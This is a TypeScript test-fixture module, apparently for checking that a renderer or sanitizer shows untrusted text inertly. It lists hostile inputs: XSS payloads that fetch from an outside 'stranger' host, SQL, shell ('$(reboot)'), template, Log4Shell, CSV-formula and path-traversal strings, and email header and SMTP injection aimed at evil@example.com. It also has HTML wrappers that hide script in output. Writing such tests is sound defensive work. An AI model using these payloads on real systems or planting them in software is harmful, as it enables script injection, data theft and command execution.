/** Texts of people who want them to be more than text. */

/** @param stranger an address that nobody may ask; `ran` on the window is what none may set */
export function payloads(stranger: string): readonly string[] {
  const run = `window.ran=1;fetch('${stranger}/ran')`;
  return [
    `<script>${run}</script>`,
    `</script><script>${run}//`,
    `"><img src=x onerror="${run}">`,
    `<img src="${stranger}/img">`,
    `<svg/onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<iframe src="${stranger}/frame">`,
    `<object data="${stranger}/object"></object><embed src="${stranger}/embed">`,
    `<base href="${stranger}/"><a href="x">x</a>`,
    `<meta http-equiv="refresh" content="0;url=${stranger}/meta">`,
    `<link rel="stylesheet" href="${stranger}/style.css">`,
    `<style>@import url(${stranger}/import.css);body{display:none}</style>`,
    `<div style="background:url(${stranger}/bg);position:fixed;inset:0">cover</div>`,
    `<form action="${stranger}/form"><input name=token autofocus onfocus="${run}"><button>log in</button></form>`,
    `<body onload="${run}">`,
    `<details open ontoggle="${run}">more</details>`,
    `<video><source onerror="${run}"></video>`,
    `<input onfocus="${run}" autofocus>`,
    `<a href="javascript:${run}">read this</a>`,
    `[read this](javascript:${run})`,
    `<template><script>${run}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<!--><script>${run}</script>-->`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<textarea></textarea><script>${run}</script>`,
    `<table><td background="${stranger}/td">x`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    "&#60;b&#62;&amp;amp;&nbsp;&unknown;&#x0;&#xD800;",
    "{{ now.code }} {{ event.subject }} $" + "{7*7} #{7*7} <%= 7*7 %> %{7*7}",
    "{% for x in y %}{{constructor.constructor('return 1')()}}{% endfor %}",
    "now.code == '7203' || true",
    "__proto__ constructor toString hasOwnProperty",
    "'; DROP TABLE log; --",
    "$(reboot) `reboot` | reboot; reboot && reboot",
    "$" + "{jndi:ldap://127.0.0.1/a} %n%n%s%x",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd C:\\windows\\system32",
    "x\r\nBcc: evil@example.com\r\nX-Evil: 1\r\n\r\n<b>body</b>",
    "x\nTo: evil@example.com\nContent-Type: text/html",
    "%0d%0aBcc:%20evil@example.com",
    "=?utf-8?B?PHNjcmlwdD4=?= =?utf-8?Q?=0D=0ABcc:_evil@example.com?=",
    "first\r\n.\r\nMAIL FROM:<evil@example.com>\r\nRCPT TO:<evil@example.com>\r\nDATA\r\n",
    ".\n..\n. \nFrom evil@example.com Thu Jan 1 00:00:00 1970\nFrom x",
    "--boundary\r\nContent-Type: text/html\r\n\r\n<script>1</script>\r\n--boundary--",
    '"evil@example.com" <evil@example.com>, evil2@example.com;',
    "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J \u0000null \u0008\u0008back",
    "\u202egnp.exe \u2066right\u2069 \u200frtl \u200b zero",
    "שלום עולם مرحبا بالعالم",
    "Z\u0351\u036b\u0343a\u0329\u0345l\u0334\u0321g\u0321\u0353o\u0338\u0327",
    "line\u2028separator\u2029paragraph\u0085next",
    "\ufeffmark in front \ufffe not a letter",
    "half \ud83d of a pair \udc00 and 😀👨‍👩‍👧 whole ones",
    "株\u3099ｶﾞ㈱①ﷺ",
    '{"type":"event","seq":1}]}\u0000',
    "- a: *b\n&b c: !!js/function 'x'\n---",
    "https://127.0.0.1/@evil.example/?token=abc#x http://evil.example",
    "mailto:evil@example.com?bcc=evil@example.com tel:110 data:text/html,<b>x</b>",
    `long ${"ＡB株 ".repeat(400)}end`,
  ];
}

/** Nothing of it is to be seen, but it would run or load. */
const unseen = (stranger: string) =>
  `<script>window.ran=1</script><style>@import url(${stranger}/x.css)</style><img src="${stranger}/y" onerror="window.ran=1">`;

/** The ways in which HTML writes a text; each shows it as it is. */
export const writings: readonly ((text: string, stranger: string) => string)[] = [
  (text) => escaped(text),
  (text, stranger) => `${unseen(stranger)}<span data-x="1" onclick="window.ran=1">${escaped(text)}</span>`,
  (text) =>
    [...text]
      .map((letter) =>
        /[\w\s]|[^\0-\x7f]/.test(letter) ? escaped(letter) : `&#x${letter.codePointAt(0)?.toString(16)};`,
      )
      .join(""),
  (text, stranger) =>
    `<a href="javascript:window.ran=1" style="background:url(${stranger}/z)">${escaped(text)}</a>`,
];

function escaped(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
}

/** The part of a text that is to be seen, wherever it is shown: letters and signs, not how lines and spaces fall. */
export function visible(text: string): string {
  return text.replace(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Cn}\s\ufffd]/gu, "");
}
